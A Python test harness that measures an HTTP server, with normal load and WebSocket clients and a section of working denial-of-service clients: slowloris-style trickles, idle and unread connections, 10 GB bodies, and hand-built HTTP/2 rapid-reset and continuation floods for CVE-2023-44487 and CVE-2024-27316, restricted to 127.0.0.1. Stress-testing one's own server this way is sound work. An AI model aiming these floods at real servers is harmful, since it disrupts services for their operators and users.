"""Clients of the HTTP interface for measurements: such that ask as fast as they are answered, and such that mean harm.

    load            requests over connections that stay, each as soon as the one before is answered
    watch           WebSockets that read events and note when each came
    attack(kind)    what a hostile client does, from one address, until its time is up:
        slow headers      as many connections as are let in, a byte of a header each now and then
        slow body         the same with a body
        idle              1,000 connections that say nothing
        rapid reset       HTTP/2 streams that are opened and cancelled at once (CVE-2023-44487)
        continuation      HTTP/2 headers that never end (CVE-2024-27316)
        not reading       large answers asked for, and none of them read
        big bodies        bodies of 10 GB, said to be that long or in chunks without end

A connection that is refused or closed is opened again. Plain sockets and bytes, so that a client costs less than what
it measures, and none is held back by a library that means well. Everything here talks to 127.0.0.1 alone.
"""

from __future__ import annotations

import base64
import itertools
import os
import re
import ssl
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from typing import Any
from urllib.parse import urlsplit

import attrs
import trio

__all__ = ["ATTACKS", "Target", "attack", "load", "watch"]

CONNECTIONS = 64
IDLE = 1000
AGAIN_S = 0.05
SLOW_S = 0.5

_LENGTH = re.compile(rb"\r\ncontent-length: *(\d+)", re.IGNORECASE)
_KEY = re.compile(rb'"key": ?"t/(\d+)"')


@attrs.frozen
class Target:
    """Where to ask, and as whom."""

    url: str
    token: str = ""

    @property
    def place(self) -> tuple[str, int]:
        """Host and port."""
        parts = urlsplit(self.url)
        assert parts.hostname == "127.0.0.1"
        assert parts.port is not None
        return parts.hostname, parts.port

    def head(self, method: str, path: str, *fields: str) -> bytes:
        """The header of a request."""
        lines = [f"{method} {path} HTTP/1.1", f"Host: {self.place[0]}:{self.place[1]}", *fields]
        if self.token:
            lines.append(f"Authorization: Bearer {self.token}")
        return "\r\n".join([*lines, "", ""]).encode()

    async def connect(self, *, alpn: str = "http/1.1", buffer_bytes: int | None = None) -> trio.abc.Stream:
        """A new connection; OSError or trio.BrokenResourceError where there is none."""
        sock = trio.socket.socket()
        if buffer_bytes is not None:
            sock.setsockopt(trio.socket.SOL_SOCKET, trio.socket.SO_RCVBUF, buffer_bytes)
        try:
            await sock.connect(self.place)
        except BaseException:
            sock.close()
            raise
        stream = trio.SocketStream(sock)
        if not self.url.startswith("https"):
            return stream
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([alpn])
        secure: trio.SSLStream[trio.SocketStream] = trio.SSLStream(stream, context, https_compatible=True)
        try:
            await secure.do_handshake()
        except BaseException:
            await trio.aclose_forcefully(stream)
            raise
        return secure


# ---------------------------------------------------------------------- clients as they should be


async def load(target: Target, request: bytes, connections: int, seconds: float) -> dict[str, Any]:
    """Ask again and again; how many were answered, with which statuses, and the times in milliseconds."""
    times: list[float] = []
    statuses: dict[str, int] = {}

    async def ask() -> None:
        while time.perf_counter() < end:
            stream = await target.connect()
            async with stream:
                try:
                    for begin in iter(time.perf_counter, None):
                        if begin >= end:
                            return
                        await stream.send_all(request)
                        head, keeps = await _read_answer(stream)
                        times.append(1000 * (time.perf_counter() - begin))
                        status = head[9:12].decode()
                        statuses[status] = statuses.get(status, 0) + 1
                        if not keeps:
                            break
                except (trio.BrokenResourceError, EOFError):
                    pass  # it was closed, as a connection may be between two requests

    end = time.perf_counter() + seconds
    async with trio.open_nursery() as nursery:
        for _ in range(connections):
            nursery.start_soon(ask)
    return {"answers": len(times), "statuses": statuses, "ms": times}


async def _read_answer(stream: trio.abc.Stream) -> tuple[bytes, bool]:
    data = b""
    while (end := data.find(b"\r\n\r\n")) < 0:
        data += await _some(stream)
    head, rest = data[:end], len(data) - end - 4
    found = _LENGTH.search(head)
    if found is not None:
        while rest < int(found[1]):
            rest += len(await _some(stream))
    elif b"chunked" in head:
        while not data.endswith(b"0\r\n\r\n"):
            data += await _some(stream)
    return head, b"connection: close" not in head.lower()


async def _some(stream: trio.abc.Stream) -> bytes:
    data = bytes(await stream.receive_some(65536))
    if not data:
        raise EOFError
    return data


async def watch(target: Target, path: str, clients: int, *, task_status: trio.TaskStatus[list[float]]) -> None:
    """Read events until cancelled; the list grows by how long each write took to come, in milliseconds.

    A write is one of the key `t/NUMBER`, the nanoseconds of the monotonic clock when it was made.
    """
    times: list[float] = []
    key = base64.b64encode(os.urandom(16)).decode()
    head = target.head(
        *("GET", path, "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13"),
        *(f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Protocol: bms.events.v1"),
    )

    async def read(*, task_status: trio.TaskStatus[None]) -> None:
        stream = await target.connect()
        async with stream:
            await stream.send_all(head)
            data = b""
            while b'"hello"' not in data:
                data += await _some(stream)
                assert b" 101 " in data[:20], data
            task_status.started()
            while data := bytes(await stream.receive_some(65536)):
                now = time.perf_counter_ns()
                times.extend((now - int(sent)) / 1e6 for sent in _KEY.findall(data))

    async with trio.open_nursery() as nursery:
        for _ in range(clients):
            await nursery.start(read)
        task_status.started(times)


# ---------------------------------------------------------------------- and as they are


class _Harm:
    """What an attack has done so far."""

    def __init__(self, target: Target) -> None:
        self.target = target
        self.counts = {"opened": 0, "closed": 0, "bytes": 0}

    @asynccontextmanager
    async def connection(self, **options: Any) -> AsyncIterator[trio.abc.Stream]:
        """A connection that is counted, and cut off at the end."""
        stream = await self.target.connect(**options)
        self.counts["opened"] += 1
        try:
            yield stream
        finally:
            with trio.CancelScope(shield=True):
                await trio.aclose_forcefully(stream)

    async def send(self, stream: trio.abc.Stream, data: bytes) -> None:
        """Send, and count."""
        await stream.send_all(data)
        self.counts["bytes"] += len(data)


async def _trickle(harm: _Harm, begin: bytes, byte: bytes) -> None:
    async with harm.connection() as stream:
        await harm.send(stream, begin)
        while True:
            await trio.sleep(SLOW_S)
            await harm.send(stream, byte)


async def _slow_headers(harm: _Harm) -> None:
    await _trickle(harm, b"GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ", b"x")


async def _slow_body(harm: _Harm) -> None:
    head = harm.target.head("PUT", "/api/v1/data/default/slow", "Content-Length: 100000")
    await _trickle(harm, head, b"x")


async def _idle(harm: _Harm) -> None:
    async with harm.connection() as stream:
        await _some(stream)


async def _not_reading(harm: _Harm) -> None:
    request = harm.target.head("GET", "/api/v1/data/default/large")
    async with harm.connection(buffer_bytes=4096) as stream:
        for _ in range(20):
            await harm.send(stream, request)
        await trio.sleep_forever()


async def _big_bodies(harm: _Harm) -> None:
    fields, part = ("Content-Length: 10000000000", b"x" * 65536)
    if harm.counts["opened"] % 2:
        fields, part = ("Transfer-Encoding: chunked", b"10000\r\n" + b"x" * 65536 + b"\r\n")
    async with harm.connection() as stream:
        await harm.send(stream, harm.target.head("PUT", "/api/v1/data/default/big", fields))
        while True:
            await harm.send(stream, part)


# HTTP/2 by hand (RFC 9113 section 4.1): length 24 bits, type 8, flags 8, stream 32.
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
_HEADERS, _RESET, _CONTINUATION = 1, 3, 9


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _block(target: Target) -> bytes:
    """GET /livez, as HPACK without a table: two indexed fields and two literal ones (RFC 7541 section 6)."""
    scheme = b"\x87" if target.url.startswith("https") else b"\x86"
    authority = "{}:{}".format(*target.place).encode()
    path = b"/livez"
    return b"\x82" + scheme + b"\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(authority)]) + authority


async def _rapid_reset(harm: _Harm) -> None:
    block = _block(harm.target)
    async with harm.connection(alpn="h2") as stream:
        await harm.send(stream, _PREFACE)
        for first in itertools.count(1, 200):
            numbers = range(first, first + 200, 2)
            await harm.send(
                stream,
                b"".join(_frame(_HEADERS, 5, n, block) + _frame(_RESET, 0, n, b"\0\0\0\x08") for n in numbers),
            )


async def _continuation(harm: _Harm) -> None:
    block = _block(harm.target)
    filling = b"\x00\x01a\x7f\x00" + b"x" * 127  # a literal field of 127 bytes
    async with harm.connection(alpn="h2") as stream:
        await harm.send(stream, _PREFACE + _frame(_HEADERS, 1, 1, block))
        while True:
            await harm.send(stream, _frame(_CONTINUATION, 0, 1, filling * 100))


_Attacker = Callable[[_Harm], Awaitable[None]]
ATTACKS: dict[str, tuple[_Attacker, int]] = {
    "slow headers": (_slow_headers, CONNECTIONS),
    "slow body": (_slow_body, CONNECTIONS),
    "idle": (_idle, IDLE),
    "rapid reset": (_rapid_reset, 8),
    "continuation": (_continuation, 8),
    "not reading": (_not_reading, CONNECTIONS),
    "big bodies": (_big_bodies, 8),
}
"""Each kind with how many connections it opens at once."""


async def attack(target: Target, kind: str, seconds: float) -> dict[str, Any]:
    """Attack for so long; how many connections were opened and closed on it, and how many bytes were sent."""
    attacker, connections = ATTACKS[kind]
    harm = _Harm(target)

    async def again() -> None:
        while True:
            try:
                await attacker(harm)
            except (OSError, EOFError, trio.BrokenResourceError, trio.ClosedResourceError):
                harm.counts["closed"] += 1  # or was not let in
            await trio.sleep(AGAIN_S)

    with trio.move_on_after(seconds):
        async with trio.open_nursery() as nursery:
            for _ in range(connections):
                nursery.start_soon(again)
    return dict(harm.counts)
